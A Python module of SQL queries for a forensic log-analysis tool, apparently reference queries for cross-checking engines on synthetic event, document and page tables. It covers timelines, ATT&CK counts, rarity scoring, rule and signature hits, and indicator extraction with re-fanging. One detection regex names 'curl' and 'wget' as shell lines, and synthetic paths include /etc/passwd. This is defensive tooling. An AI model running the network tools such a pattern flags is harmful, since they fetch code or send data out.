"""The registered queries as SQL for another engine on the same tables.

Written from the facts, not from the derived lines: where a query parses log
lines that Spark wrote from the events table, the SQL says what must come out.
"""

from __future__ import annotations

SQL: dict[str, str] = {}


def _line_id(path: str, line: str, emission: str = "0") -> str:
    """The id of a line's event: the first 60 bits of an MD5."""
    text = f"concat({path}, chr(10), {line}, chr(10), {emission})"
    return f"CAST(('0x' || substr(md5({text}), 1, 15)) AS BIGINT)"


_AUTH_ID = _line_id("'/case/host', user_id % 7, '/var/log/auth.log'", "event_id + 1")
_MONGO_ID = _line_id("'/case/db', user_id % 3, '/var/log/mongodb/mongod.log'", "event_id + 1")
_WEB_ID = _line_id(
    "CASE WHEN web THEN concat('/case/var/log/nginx/access', user_id % 5, '.log') "
    "ELSE concat('/case/srv/app', user_id % 5, '.txt') END", "event_id + 1")
_SHELL_ID = _line_id(
    "CASE WHEN o = 0 THEN '/case/root/.bash_history' ELSE concat('/case/home/u', o, '/.zsh_history') END", "line_no")
_WIN_ID = _line_id(
    "'/case/logs/', CASE WHEN event_type = 'purchase' THEN 'System' ELSE 'Security' END, '.evtx'", "event_id + 1")
_HIVE_ID = _line_id("'/case/p', (v // 4) % 4, '/config/HIVE'", "v", "hive")

# The events table with the number inside props, and its rows as events.
_FACTS = """
f AS (
  SELECT event_id, ts, user_id, event_type, value,
         CAST(regexp_extract(props, '([0-9]+)', 1) AS INTEGER) AS k, epoch_us(ts) AS us,
         CAST(floor(epoch_us(ts) / 1000000) AS BIGINT) AS sec,
         strftime(ts, '%Y-%m-%d %H:%M:%S') AS tst
  FROM events)"""
_APP = _FACTS + """,
e AS (
  SELECT event_id AS id, ts, us AS ts_epoch, tst, sec, user_id, event_type, k, value,
         'host' || (user_id % 7) AS host, 'u' || user_id AS "user",
         'app/' || event_type AS source_artifact,
         CASE WHEN k % 2 = 0 THEN 'evtx' ELSE 'app' END AS parser,
         CASE WHEN k % 4 = 0 THEN '' ELSE 'chan' || (k % 5) END AS channel,
         CAST(k + 4600 AS VARCHAR) AS eid,
         CASE event_type WHEN 'error' THEN 'high' WHEN 'purchase' THEN 'med'
           WHEN 'signup' THEN 'low' ELSE 'info' END AS severity,
         CASE event_type WHEN 'error' THEN 3 WHEN 'purchase' THEN 2
           WHEN 'signup' THEN 1 ELSE 0 END AS sev_rank,
         'Event ' || event_type AS title,
         'k: ' || k || ' ¦ value: ' || value AS details,
         concat_ws(' ', CASE WHEN k % 3 = 0 THEN 'auto_fields' END,
                        CASE WHEN k % 10 = 0 THEN 'odd' END) AS tags,
         CASE event_type WHEN 'error' THEN 'T1110 T1078' WHEN 'purchase' THEN 'T1078'
           WHEN 'signup' THEN 'T1136.001' ELSE '' END AS attck,
         'p' || (k % 3) AS provider
  FROM f),
ev AS (SELECT *, title || ' ¦ ' || details AS message FROM e)"""


def app(body: str) -> str:
    return f"WITH {_APP} {body}"


def facts(body: str) -> str:
    return f"WITH {_FACTS} {body}"


# --- filters, search, order ---
SQL["timeline_floor"] = app(
    "SELECT id, tst AS ts, ts_epoch, severity, CAST(sev_rank AS BIGINT) AS sev_rank, event_type, "
    "message FROM ev WHERE ts >= TIMESTAMP '2024-01-05' AND ts <= TIMESTAMP '2024-01-25 12:00:00' "
    "AND sev_rank >= 1 ORDER BY ts_epoch, id"
)
SQL["timeline_latest"] = app(
    "SELECT id, ts_epoch, severity FROM ev WHERE sev_rank >= 2 "
    "ORDER BY ts_epoch DESC, id DESC LIMIT 500"
)
SQL["where_facets"] = app(
    'SELECT id, host, "user", channel, tags, attck FROM ev WHERE k % 10 = 0 AND '
    "parser = 'evtx' AND event_type = 'error'"
)
SQL["search_substring"] = (
    "SELECT doc_id FROM documents WHERE contains(lower(text), 'example.') "
    "OR contains(lower(source), 'example.')"
)
SQL["search_regex"] = (
    "SELECT doc_id, lang FROM documents WHERE "
    "regexp_matches(text || chr(10) || lang, '[a-z0-9.]+@[a-z0-9.]+\\.(com|org|net)', 'i')"
)
_TOKENS = (
    "' ' || trim(regexp_replace(strip_accents(lower(text)), '[^\\p{L}\\p{N}]+', ' ', 'g')) || ' '"
)
SQL["search_words"] = (
    f"SELECT doc_id FROM (SELECT doc_id, {_TOKENS} AS t FROM documents) "
    "WHERE contains(t, ' the ') AND contains(t, ' and ')"
)
SQL["search_accents"] = SQL["search_words"]
SQL["search_phrase"] = (
    f"SELECT doc_id FROM (SELECT doc_id, {_TOKENS} AS t FROM documents) "
    "WHERE contains(t, ' of the ') AND contains(t, ' re')"
)

# --- counts ---
SQL["count_events"] = app("SELECT count(*) AS n FROM ev WHERE sev_rank >= 2")
SQL["facet_users"] = app(
    'SELECT "user" AS value, count(*) AS n FROM ev GROUP BY 1 ORDER BY n DESC, value'
)
SQL["facet_channels"] = app(
    "SELECT channel AS value, count(*) AS n FROM ev WHERE channel <> '' GROUP BY 1"
)
SQL["level_counts"] = app("SELECT severity, count(*) AS n FROM ev GROUP BY 1")
SQL["attck_summary"] = app(
    "SELECT technique_id, count(*) AS n FROM (SELECT unnest(string_split(attck, ' ')) AS "
    "technique_id FROM ev WHERE attck <> '') GROUP BY 1 ORDER BY n DESC, 1"
)
SQL["attck_named"] = app(
    "SELECT a.technique_id, a.n, p.name, p.tactics FROM (SELECT technique_id, count(*) AS n FROM "
    "(SELECT unnest(string_split(attck, ' ')) AS technique_id FROM ev WHERE attck <> '') GROUP BY 1) a "
    "LEFT JOIN (SELECT 'T10' || lpad(CAST(p_partkey % 100 AS VARCHAR), 2, '0') AS technique_id, min(p_name) AS name, "
    "min(p_type) AS tactics FROM part GROUP BY 1) p ON a.technique_id = p.technique_id"
)
SQL["valid_attck"] = app("""
SELECT id, coalesce((SELECT string_agg(t, ' ' ORDER BY p) FROM (SELECT unnest(string_split(attck, ' ')) AS t,
  generate_subscripts(string_split(attck, ' '), 1) AS p) WHERE t IN (SELECT 'T10' || lpad(CAST(p_partkey % 100 AS VARCHAR), 2, '0') FROM part)), '') AS attck
FROM ev""")
SQL["defanged_links"] = facts("""
SELECT event_id AS doc_id, 'url' AS type, 'https://h' || k || '.example.net/p' || (user_id % 10) AS value, 'defanged' AS tags FROM f
UNION ALL SELECT event_id, 'ipv4', '198.51.100.' || (user_id % 10), 'private defanged' FROM f""")
SQL["coverage"] = app(
    "SELECT CASE WHEN channel = '' THEN source_artifact ELSE channel END AS channel, "
    "count(*) AS total, count(*) FILTER (k % 3 = 0) AS auto, "
    "round(100.0 * (count(*) - count(*) FILTER (k % 3 = 0)) / count(*), 6) AS templated_pct "
    "FROM ev WHERE parser = 'evtx' GROUP BY 1 ORDER BY total DESC, 1 LIMIT 6"
)
SQL["top_unrecognized"] = app(
    "SELECT provider, eid AS event_id, count(*) AS n, "
    "min(CASE WHEN channel = '' THEN '?' ELSE channel END) AS channel "
    "FROM ev WHERE parser = 'evtx' AND k % 3 = 0 GROUP BY 1, 2 ORDER BY n DESC, 1, 2 LIMIT 8"
)

# --- rarity and bursts ---
_PROC = _FACTS + """,
p AS (
  SELECT event_id AS id, epoch_us(date_trunc('day', ts)) +
           CAST(floor((us - epoch_us(date_trunc('day', ts))) / 100) AS BIGINT) AS ts_epoch,
         'p' || ((user_id * 100 + k) % 4999) || '.exe' AS image,
         CASE WHEN k % 3 = 0 THEN 'day' || dayofyear(ts) || '.exe'
              ELSE 'svc' || (user_id % 23) || '.exe' END AS parent,
         CASE WHEN event_type = 'error' THEN 3 ELSE 0 END AS sev_rank,
         event_type <> 'signup' AS is_process, k
  FROM f),
pp AS (
  SELECT *, strftime(make_timestamp(ts_epoch), '%Y-%m-%d %H:%M:%S') AS tst,
         CAST(make_timestamp(ts_epoch) AS DATE) AS d FROM p WHERE is_process),
im AS (
  SELECT image, count(*) AS runs, count(DISTINCT d) AS days, min(tst) AS first_ts,
         max(tst) AS last_ts FROM pp GROUP BY image),
pr AS (SELECT parent, image, count(*) AS seen FROM pp GROUP BY 1, 2),
q AS (SELECT parent FROM pp GROUP BY 1 HAVING count(*) >= 8 AND count(DISTINCT d) <= 1),
w AS (
  SELECT parent, ts_epoch,
         count(*) OVER x AS c, min(ts_epoch) OVER x AS s
  FROM pp WHERE parent IN (SELECT parent FROM q)
  WINDOW x AS (PARTITION BY parent ORDER BY ts_epoch
               RANGE BETWEEN 60000000 PRECEDING AND CURRENT ROW)),
bu AS (
  SELECT parent, max(c) AS children, arg_min(s, (-c, ts_epoch)) AS window_start
  FROM w GROUP BY 1 HAVING max(c) >= 8)"""
SQL["rare_values"] = (
    f"WITH {_PROC} SELECT image, runs, days, first_ts, last_ts FROM im WHERE days <= 1 AND runs <= 25"
)
SQL["rare_pairs"] = f"WITH {_PROC} SELECT parent, image, seen FROM pr WHERE seen <= 2"
SQL["spawn_bursts"] = f"WITH {_PROC} SELECT parent, children, window_start FROM bu"
SQL["value_bursts"] = app(
    """, w AS (SELECT "user", ts_epoch, count(*) OVER x AS c, min(ts_epoch) OVER x AS s FROM ev
  WINDOW x AS (PARTITION BY "user" ORDER BY ts_epoch
               RANGE BETWEEN 3600000000 PRECEDING AND CURRENT ROW))
SELECT "user", max(c) AS children, arg_min(s, (-c, ts_epoch)) AS window_start FROM w
GROUP BY 1 HAVING max(c) >= 3"""
)
SQL["rarity_promote"] = f"""WITH {_PROC},
j AS (
  SELECT p.id, p.sev_rank, p.k, p.is_process, p.image, p.parent, im.runs, im.days, pr.seen,
         bu.children,
         CASE WHEN p.is_process AND im.days <= 1 AND im.runs <= 25 THEN 1 ELSE 0 END AS s1,
         CASE WHEN p.is_process AND pr.seen <= 2 THEN 1 ELSE 0 END AS s2,
         CASE WHEN p.is_process AND bu.children IS NOT NULL THEN 1 ELSE 0 END AS s3
  FROM p LEFT JOIN im ON p.image = im.image LEFT JOIN pr ON p.image = pr.image AND p.parent = pr.parent
       LEFT JOIN bu ON p.parent = bu.parent),
r AS (SELECT *, CASE WHEN sev_rank >= 2 THEN sev_rank
                     ELSE least(sev_rank + s1 + s2 + s3, 2) END AS nr FROM j)
SELECT id, ['info','low','med','high','crit'][nr + 1] AS severity, CAST(nr AS BIGINT) AS sev_rank,
  concat_ws(' ', CASE WHEN k % 7 = 0 THEN 'noted' END,
    CASE WHEN nr <> sev_rank AND s1 = 1 THEN 'rare_binary' END,
    CASE WHEN nr <> sev_rank AND s2 = 1 THEN 'rare_parent_child' END,
    CASE WHEN nr <> sev_rank AND s3 = 1 THEN 'spawn_burst' END) AS tags,
  concat_ws('; ', CASE WHEN k % 7 = 0 THEN 'seen before' END,
    CASE WHEN nr <> sev_rank AND s1 = 1 THEN image || ' ran ' || runs || 'x on ' || days ||
      ' day(s) in the whole case' END,
    CASE WHEN nr <> sev_rank AND s2 = 1 THEN parent || ' -> ' || image || ' happened ' || seen ||
      'x in the whole case' END,
    CASE WHEN nr <> sev_rank AND s3 = 1 THEN parent || ' spawned ' || children ||
      ' children within 60s and has never spawned anything on another day' END) AS why
FROM r"""
SQL["unknown_binaries"] = f"""WITH {_PROC}
SELECT id, image FROM pp WHERE d >= DATE '2024-01-16' AND image NOT IN
  (SELECT image FROM pp WHERE d < DATE '2024-01-16')"""

# --- correlation ---
SQL["success_after_failure"] = facts("""
SELECT event_id,
  CAST(prior + CASE WHEN event_type = 'error' THEN 1 ELSE 0 END AS BIGINT) AS attempt,
  CAST(prior AS BIGINT) AS prior_failures,
  CASE WHEN event_type = 'purchase' AND NOT value > 100 AND same > 0 THEN 1 ELSE 0 END AS cracked
FROM (
  SELECT *, coalesce(sum(CASE WHEN event_type = 'error' THEN 1 ELSE 0 END) OVER (
      PARTITION BY user_id % 7, k ORDER BY event_id
      ROWS BETWEEN UNBOUNDED PRECEDING AND 1 PRECEDING), 0) AS prior,
    coalesce(sum(CASE WHEN event_type = 'error' THEN 1 ELSE 0 END) OVER (
      PARTITION BY user_id % 7, k, user_id ORDER BY event_id
      ROWS BETWEEN UNBOUNDED PRECEDING AND 1 PRECEDING), 0) AS same
  FROM f) WHERE event_type IN ('error', 'purchase')""")
SQL["flood"] = facts("""
SELECT user_id, strftime(ts, '%Y-%m-%d') AS day, count(*) AS connections, min(us) AS first_us,
  max(us) AS last_us, round(greatest((max(us) - min(us)) / 1000000.0, 1.0), 1) AS window_seconds
FROM f GROUP BY 1, 2 HAVING count(*) >= 3 AND max(us) - min(us) <= 21600000000""")
SQL["distinct_time_flags"] = facts(""",
u AS (SELECT user_id, min(CAST(ts AS DATE)) FILTER (event_type = 'view') AS m,
  min(CAST(ts AS DATE)) FILTER (event_type = 'purchase') AS a,
  min(CAST(ts AS DATE)) FILTER (event_type = 'error') AS c,
  min(CAST(ts AS DATE)) FILTER (event_type = 'signup') AS b FROM f GROUP BY 1),
t AS (SELECT user_id, m AS d FROM u UNION SELECT user_id, a FROM u UNION SELECT user_id, c FROM u
  UNION SELECT user_id, b FROM u)
SELECT u.user_id, CAST(t.d AS VARCHAR) AS day,
  CASE WHEN m = d THEN 'm' ELSE '.' END || CASE WHEN a = d THEN 'a' ELSE '.' END ||
  CASE WHEN c = d THEN 'c' ELSE '.' END || CASE WHEN b = d THEN 'b' ELSE '.' END AS flags
FROM u JOIN t ON u.user_id = t.user_id WHERE t.d IS NOT NULL""")
SQL["notable"] = app("""
SELECT id, severity, event_type, ts_epoch FROM (
  SELECT *, row_number() OVER (PARTITION BY event_type ORDER BY sev_rank DESC, ts_epoch, id) AS n
  FROM ev WHERE sev_rank >= 2) WHERE n <= 25 ORDER BY sev_rank DESC, ts_epoch, id LIMIT 60""")
SQL["notable_total"] = app("SELECT count(*) AS notable_total FROM ev WHERE sev_rank >= 2")
SQL["forward_fill"] = """
WITH c AS (SELECT *, length(text) AS n,
  CASE WHEN role = 'user' AND length(text) > 100 THEN length(text) END AS said FROM conversations)
SELECT conv_id, turn,
  last_value(said IGNORE NULLS) OVER w AS last_said,
  first_value(said IGNORE NULLS) OVER w AS first_said,
  CAST(coalesce(sum(n) OVER b, 0) AS BIGINT) AS chars_before, min(n) OVER b AS shortest,
  lag(role) OVER (PARTITION BY conv_id ORDER BY turn) AS previous_role,
  CAST(sum(n) OVER (PARTITION BY conv_id) AS BIGINT) AS total_chars
FROM c
WINDOW w AS (PARTITION BY conv_id ORDER BY turn ROWS BETWEEN UNBOUNDED PRECEDING AND CURRENT ROW),
       b AS (PARTITION BY conv_id ORDER BY turn ROWS BETWEEN UNBOUNDED PRECEDING AND 1 PRECEDING)"""

# --- detection ---
_HITS = _APP + """,
h AS (
  SELECT id, ts_epoch, event_type, 'r1' AS rule, 'critical' AS level, 'high' AS hit_severity,
    'T1499.001' AS hit_attck, 'Error with a high number' AS rule_title FROM ev
    WHERE (starts_with(CAST(k AS VARCHAR), '9') OR starts_with(CAST(k AS VARCHAR), '8'))
      AND event_type = 'error' AND provider <> 'p2'
  UNION ALL SELECT id, ts_epoch, event_type, 'r2', 'medium', 'med', 'T1078',
    'Purchase or signup of some users' FROM ev
    WHERE event_type IN ('purchase', 'signup') AND ("user" LIKE 'u1%' OR "user" LIKE '%7')
  UNION ALL SELECT id, ts_epoch, event_type, 'r3', 'low', 'info', '', 'Process events by id' FROM ev
    WHERE eid IN ('4688', '1') AND contains(CAST(value AS VARCHAR), '5')
      AND regexp_matches(CAST(value AS VARCHAR), '^[0-9]{2}\\.')
  UNION ALL SELECT id, ts_epoch, event_type, 'r4', 'high', 'high', 'T1105', 'Channel three' FROM ev
    WHERE contains(channel, 'chan3') AND (k = 33 OR (contains(CAST(k AS VARCHAR), '8')
      AND contains(CAST(k AS VARCHAR), '3'))))"""
SQL["rule_hits"] = f"WITH {_HITS} SELECT id, rule, level, hit_severity, hit_attck FROM h"
SQL["rule_hits_prefiltered"] = f"WITH {_HITS} SELECT rule, count(*) AS n FROM h GROUP BY 1"
SQL["rule_cap"] = f"""WITH {_HITS} SELECT rule, hit_no, id FROM (SELECT *, row_number() OVER
  (PARTITION BY rule ORDER BY id) AS hit_no FROM h) WHERE hit_no <= 20"""
SQL["rule_counts"] = f"""WITH {_HITS} SELECT rule, count(*) AS hits,
  CASE WHEN count(*) > 200 THEN 1 ELSE 0 END AS capped FROM h GROUP BY 1"""
SQL["linked_events"] = f"""WITH {_HITS} SELECT id, event_type, count(*) AS hits,
  CAST(max(CASE hit_severity WHEN 'high' THEN 3 WHEN 'med' THEN 2 ELSE 0 END) AS BIGINT) AS worst FROM h GROUP BY 1, 2"""
SQL["appended_hits"] = f"""WITH {_HITS} SELECT parser, severity, count(*) AS n, count(DISTINCT id) AS ids FROM (
  SELECT parser, severity, CAST(id AS VARCHAR) AS id FROM ev UNION ALL SELECT 'sigma', hit_severity, id || ' ' || rule FROM h) GROUP BY 1, 2"""
SQL["rule_diagnostics"] = f"""WITH {_HITS}, c AS (SELECT rule, count(*) AS hits FROM h GROUP BY 1),
r AS (SELECT * FROM (VALUES ('r1', ''), ('r2', ''), ('r3', ''), ('r4', ''), ('r5', 'foreign product'),
  ('r6', 'modifier [' || chr(39) || 'near' || chr(39) || ']'), ('u1', 'aggregation'), ('u2', 'pattern ' || chr(39) || '(5' || chr(39)), ('u3', 'no condition or no selection'),
  ('u4', '')) AS t(rule, cause))
SELECT r.rule, cause, coalesce(hits, 0) AS hits, CASE WHEN coalesce(hits, 0) > 200 THEN 1 ELSE 0 END AS capped
FROM r LEFT JOIN c ON c.rule = r.rule"""
SQL["rule_corpus"] = app(
    "SELECT id, 'c' || (k + 100 * (user_id % 10)) AS rule FROM ev WHERE user_id % 10 < 6"
)
_MIXED = """,
cv AS (
  SELECT *, CAST(k AS VARCHAR) AS ks, CAST(value AS VARCHAR) AS vs, CAST(user_id AS VARCHAR) AS us,
    'Tool.exe -N' || k || ' /U ' || user_id || ' ' || base64(encode('id=' || user_id || ';end')) AS cmd,
    CASE WHEN event_type = 'click' THEN '4688' ELSE eid END AS pid FROM ev),
ru AS (SELECT i, i % 9 AS kind, i // 9 AS n FROM (SELECT unnest(range({size})) AS i)),
mh AS (
  SELECT id, 'm' || i AS rule FROM cv JOIN ru ON kind = 0 AND k = n % 100 AND ends_with("user", CAST(n // 100 AS VARCHAR))
  UNION ALL SELECT id, 'm' || i FROM cv JOIN ru ON kind = 1 AND
    ((contains(lower(message), 'k: ' || (n % 100) || ' ') AND provider <> 'p' || (n % 3)) OR user_id = n)
  UNION ALL SELECT id, 'm' || i FROM cv JOIN ru ON kind = 2 AND contains(lower(channel), 'chan3')
    AND starts_with(vs, (n % 100) || '.') AND ends_with(vs, CAST(n % 10 AS VARCHAR)) AND vs NOT LIKE '%e%'
    AND length(vs) > length((n % 100) || '.')
  UNION ALL SELECT id, 'm' || i FROM cv JOIN ru ON kind = 3 AND
    (user_id = n OR (contains(lower(cmd), '-n' || (n % 100) || ' ') AND contains(lower(cmd), '/u ' || (n % 30))))
  UNION ALL SELECT id, 'm' || i FROM cv JOIN ru ON kind = 4 AND starts_with("user", 'u' || (n % 100))
    AND (starts_with(ks, CAST(n % 10 AS VARCHAR)) OR starts_with(ks, '77')) AND ends_with(ks, '3')
  UNION ALL SELECT id, 'm' || i FROM cv JOIN ru ON kind = 5 AND (contains(lower(cmd), '-n' || (n % 100) || ' ')
    OR contains(lower(cmd), '/n' || (n % 100) || ' ')) AND ends_with("user", CAST(n // 100 AS VARCHAR))
  UNION ALL SELECT id, 'm' || i FROM cv JOIN ru ON kind = 6 AND user_id = n
  UNION ALL SELECT id, 'm' || i FROM cv JOIN ru ON kind = 7 AND pid IN ('4688', '1') AND k = n % 100 AND ends_with("user", '1')
  UNION ALL SELECT id, 'm' || i FROM cv JOIN ru ON kind = 8 AND event_type = 'signup' AND k = n % 100)"""
SQL["rule_corpus_mixed"] = app(
    _MIXED.format(size=2935) + " SELECT rule, count(*) AS n, min(id) AS first_id, max(id) AS last_id, "
    "CAST(sum(id) AS BIGINT) AS ids FROM mh GROUP BY 1"
)
SQL["rule_modifiers"] = app(_MIXED.format(size=108) + " SELECT id, rule, 'low' AS level FROM mh")
SQL["rule_text_hits"] = """
SELECT doc_id AS id, 't1' AS rule FROM documents
  WHERE contains(lower(text), 'the') AND contains(lower(text), 'example')
UNION ALL SELECT doc_id, 't2' FROM documents
  WHERE contains(lower(text), 'license') OR contains(lower(text), 'copyright')
UNION ALL SELECT doc_id, 't3' FROM documents
  WHERE contains(lower(text), '@example.') AND lower(coalesce(lang, '')) <> 'en'"""
SQL["findings"] = f"""WITH {_HITS} SELECT 'sigma' AS engine, rule_title AS rule,
  hit_severity AS severity, hit_attck AS attck, count(*) AS n, count(DISTINCT id) AS matched
  FROM h GROUP BY 1, 2, 3, 4"""
SQL["hit_sources"] = f"WITH {_HITS} SELECT DISTINCT id, event_type FROM h"
_SIGNS = """
s AS (
  SELECT page_id, html, contains(html, '<script>') AS s, contains(html, '<!--') AS c,
    contains(lower(html), 'iframe') AS fr, contains(lower(html), 'table') AS a,
    regexp_matches(html, 'href="/[a-z]+"') AS b, contains(html, 'lang="de"') AS g,
    contains(lower(html), 'nofollow') AS d, contains(html, '<article>') AS p1,
    contains(html, '<h1>') AS p2, contains(html, 'zzzz-never') AS x FROM {table}),
hit AS (
  SELECT page_id, 'script_and_comment' AS rule, 'med' AS severity, concat_ws(' ',
    CASE WHEN s THEN 's' END, CASE WHEN c THEN 'c' END, CASE WHEN fr THEN 'f' END) AS strings
    FROM s WHERE s AND (c OR fr)
  UNION ALL SELECT page_id, 'two_of', 'high', concat_ws(' ', CASE WHEN a THEN 'a' END,
    CASE WHEN b THEN 'b' END, CASE WHEN g THEN 'c' END, CASE WHEN d THEN 'd' END) FROM s
    WHERE (CASE WHEN a THEN 1 ELSE 0 END + CASE WHEN b THEN 1 ELSE 0 END +
      CASE WHEN g THEN 1 ELSE 0 END + CASE WHEN d THEN 1 ELSE 0 END) >= 2 AND NOT d
  UNION ALL SELECT page_id, 'all_parts', 'info', concat_ws(' ', CASE WHEN p1 THEN 'p1' END,
    CASE WHEN p2 THEN 'p2' END, CASE WHEN x THEN 'x' END) FROM s WHERE p1 AND p2 AND NOT x)"""
SQL["signature_hits"] = (
    f"WITH {_SIGNS.format(table='pages')} SELECT page_id, rule, severity, strings FROM hit"
)

# --- files: pages and documents as a collection ---
_FILES = """
files AS (
  SELECT CASE page_id % 3 WHEN 0 THEN '/case/etc/ssl/certs/' || page_id || '.pem'
    WHEN 1 THEN '/case/www/' || page_id || '.html' ELSE '/case/var/log/auth.log.' || page_id END
    AS path, encode(html) AS content, html AS body FROM pages
  UNION ALL SELECT CASE doc_id % 4 WHEN 0 THEN '/case/h' || doc_id || '/.bash_history'
    WHEN 1 THEN '/case/h' || doc_id || '/etc/passwd' WHEN 2 THEN '/case/bin/' || doc_id || '.bin'
    ELSE '/case/notes/' || doc_id || '.txt' END,
    CASE WHEN doc_id % 4 = 2 THEN from_hex('7F454C4600') || encode(text) ELSE encode(text) END,
    CASE WHEN doc_id % 4 = 2 THEN NULL ELSE text END FROM documents)"""
SQL["signature_files"] = (
    f"WITH {_FILES}, pg AS (SELECT path AS page_id, coalesce(body, '') AS html FROM files), "
    + _SIGNS.format(table="pg").strip()
    + " SELECT page_id AS artifact_path, rule, severity, 'YARA ' || rule || ' matched ' || "
    "regexp_extract(page_id, '[^/]*$', 0) AS message FROM hit"
)
SQL["path_noise"] = f"""WITH {_FILES} SELECT path,
  CASE WHEN path LIKE '%.pem' THEN 1 ELSE 0 END AS noise,
  CASE WHEN path LIKE '%bash_history' OR path LIKE '%/passwd' THEN 1 ELSE 0 END AS evidence,
  'text/' || left(regexp_extract(path, '[^/]*$', 0), 40) AS label FROM files"""
SQL["artifact_numbers"] = f"""WITH {_FILES} SELECT count(*) AS files, count(*) AS ids, 1 AS first_id,
  count(*) AS last_id FROM files"""

# --- indicators ---
_FANG = r"""
clear AS (
  SELECT doc_id, text, regexp_replace(regexp_replace(regexp_replace(regexp_replace(regexp_replace(
    regexp_replace(regexp_replace(text, 'h[xX]{2}p(s?)://', 'http\1://', 'gi'),
    '\bf[xX]p://', 'ftp://', 'gi'), '\[\.\]|\(\.\)|\{\.\}|\s\.\s', '.', 'g'),
    '\[dot\]|\(dot\)', '.', 'gi'), '\[:\]|\(:\)', ':', 'g'), '\[@\]|\(at\)|\[at\]', '@', 'gi'),
    '\[//\]', '//', 'g') AS hay FROM documents),
rest AS (
  SELECT *, regexp_replace(regexp_replace(hay,
    '(?i)\b(?:https?|ftps?)://[^\s"''<>\\)\]}]+', ' ', 'g'),
    '\b[A-Za-z0-9._%+\-]+@[A-Za-z0-9.\-]+\.[A-Za-z]{2,}\b', ' ', 'g') AS plain FROM clear),
hit AS (
  SELECT doc_id, text, 'url' AS type, unnest(regexp_extract_all(hay,
    '(?i)\b(?:https?|ftps?)://[^\s"''<>\\)\]}]+')) AS v FROM rest
  UNION ALL SELECT doc_id, text, 'email', lower(unnest(regexp_extract_all(hay,
    '\b[A-Za-z0-9._%+\-]+@[A-Za-z0-9.\-]+\.[A-Za-z]{2,}\b'))) FROM rest
  UNION ALL SELECT doc_id, text, 'sha256', lower(unnest(regexp_extract_all(hay, '\b[A-Fa-f0-9]{64}\b'))) FROM rest
  UNION ALL SELECT doc_id, text, 'sha1', lower(unnest(regexp_extract_all(hay, '\b[A-Fa-f0-9]{40}\b'))) FROM rest
  UNION ALL SELECT doc_id, text, 'md5', lower(unnest(regexp_extract_all(hay, '\b[A-Fa-f0-9]{32}\b'))) FROM rest
  UNION ALL SELECT doc_id, text, 'ipv4', unnest(regexp_extract_all(hay, '\b(?:\d{1,3}\.){3}\d{1,3}\b')) FROM rest
  UNION ALL SELECT doc_id, text, 'domain', lower(unnest(regexp_extract_all(plain,
    '\b(?:[A-Za-z0-9](?:[A-Za-z0-9\-]{0,61}[A-Za-z0-9])?\.)+[A-Za-z]{2,63}\b'))) FROM rest),
found AS (
  SELECT DISTINCT doc_id, text, type, regexp_replace(v, '[.,;:)\]}"'']+$', '') AS value FROM hit),
oct AS (
  SELECT *, CASE WHEN type = 'ipv4' THEN list_transform(string_split(value, '.'),
    lambda x: CAST(x AS BIGINT)) END AS o FROM found WHERE value <> '' AND length(value) <= 500),
ok AS (
  SELECT *, CASE WHEN type = 'ipv4' THEN (o[1] * 16777216 + o[2] * 65536 + o[3] * 256 + o[4]) END AS n
  FROM oct WHERE CASE type
    WHEN 'ipv4' THEN NOT regexp_matches(value, '(^|\.)0[0-9]') AND greatest(o[1], o[2], o[3], o[4]) <= 255
    WHEN 'domain' THEN NOT regexp_matches(value, '\.(exe|dll|sys|bat|cmd|ps1|vbs|js|jar|py|sh|log|txt|csv|json|xml|zip|rar|gz|tar|7z|db|dat|tmp|bak|ini|cfg|conf|yml|yaml|md|png|jpg|jpeg|gif|pdf|doc|docx|xls|xlsx|ppt|pptx|evtx|pf|hve|lnk|sqlite|dmp|raw|img|iso|msi|inf|local|internal|lan|home|arpa|invalid|test|localdomain)$')
      AND length(value) <= 253 AND NOT regexp_matches(value, '^[0-9]+\.')
    ELSE true END),
host AS (
  SELECT *, CASE type WHEN 'domain' THEN value
    WHEN 'url' THEN regexp_replace(lower(regexp_extract(regexp_replace(regexp_replace(value, '^.*?://', ''), '^.*@', ''), '^[^/:?#]*', 0)), '\.+$', '')
    WHEN 'email' THEN regexp_replace(regexp_extract(value, '@([^/:?#]*)$', 1), '\.+$', '') END AS hn FROM ok),
ind AS (
  SELECT doc_id, type, value, concat_ws(' ',
    CASE WHEN n BETWEEN 0 AND 16777215 OR n BETWEEN 167772160 AND 184549375
      OR n BETWEEN 2130706432 AND 2147483647 OR n BETWEEN 2851995648 AND 2852061183
      OR n BETWEEN 2886729728 AND 2887778303
      OR (n BETWEEN 3221225472 AND 3221225727 AND n NOT IN (3221225481, 3221225482))
      OR n BETWEEN 3221225984 AND 3221226239 OR n BETWEEN 3232235520 AND 3232301055
      OR n BETWEEN 3323068416 AND 3323199487 OR n BETWEEN 3325256704 AND 3325256959
      OR n BETWEEN 3405803776 AND 3405804031 OR n >= 4026531840 THEN 'private' END,
    CASE WHEN n BETWEEN 2130706432 AND 2147483647 THEN 'loopback' END,
    CASE WHEN n BETWEEN 3758096384 AND 4026531839 THEN 'multicast' END,
    CASE WHEN n >= 4026531840 OR n = 0 THEN 'reserved' END,
    CASE WHEN hn IS NOT NULL AND (hn IN ('localhost', 'localdomain', 'archive.ubuntu.com', 'schemas.microsoft.com')
      OR regexp_matches('.' || hn, '\.(microsoft\.com|windows\.com|windowsupdate\.com|msftncsi\.com|msftconnecttest\.com|office\.com|office365\.com|live\.com|msn\.com|bing\.com|digicert\.com|verisign\.com|globalsign\.com|symantec\.com|entrust\.net|sectigo\.com|letsencrypt\.org|ubuntu\.com|debian\.org|canonical\.com|kali\.org|mozilla\.com|mozilla\.org|googleapis\.com|gstatic\.com|w3\.org|example\.com)$'))
      THEN 'allowlisted' END,
    CASE WHEN NOT contains(lower(text), lower(value)) THEN 'defanged' END) AS tags
  FROM host)"""
SQL["indicators"] = f"WITH {_FANG} SELECT doc_id, type, value, tags FROM ind"
SQL["indicator_table"] = f"""WITH {_FANG} SELECT type, value, count(*) AS n,
  arg_min(tags, doc_id) AS tags FROM ind GROUP BY 1, 2"""
SQL["indicator_counts"] = f"""WITH {_FANG} SELECT type, count(*) AS n
  FROM (SELECT DISTINCT type, value FROM ind) GROUP BY 1"""

SQL["indicators_pages"] = (
    "WITH pages_text AS (SELECT page_id AS doc_id, concat_ws(chr(10), url, html) AS text FROM pages), "
    + _FANG.strip().replace("FROM documents", "FROM pages_text")
    + " SELECT doc_id AS page_id, type, count(*) AS n FROM ind GROUP BY 1, 2"
)

# --- text ---
_SHELL = r"(?m)^(?:sudo |cd |ls|cat |curl |wget |vi |nano |apt |systemctl |mongo)"
SQL["classify_documents"] = rf"""
WITH t AS (
  SELECT doc_id, text, source,
